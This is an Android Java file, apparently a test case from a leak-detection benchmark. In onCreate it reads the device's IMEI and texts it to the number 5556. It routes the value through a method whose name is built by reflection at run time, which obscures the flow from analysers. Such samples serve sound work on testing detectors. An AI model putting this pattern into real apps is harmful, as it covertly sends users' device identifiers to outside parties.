package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** A method called by a name put together at run time. */
public class ByName extends Case {
    public static class Door { public String open(String s) { return s; } }
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        try {
            Class<?> c = Class.forName("org.brookside.flows.ByName$" + "Door");
            Object o = c.newInstance();
            SmsManager.getDefault().sendTextMessage("5556", null, (String) c.getMethod("nepo".length() == 4 ? new StringBuilder("nepo").reverse().toString() : "x", String.class).invoke(o, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()), null, null);
        } catch (ReflectiveOperationException e) {
            finish();
        }
    }
}
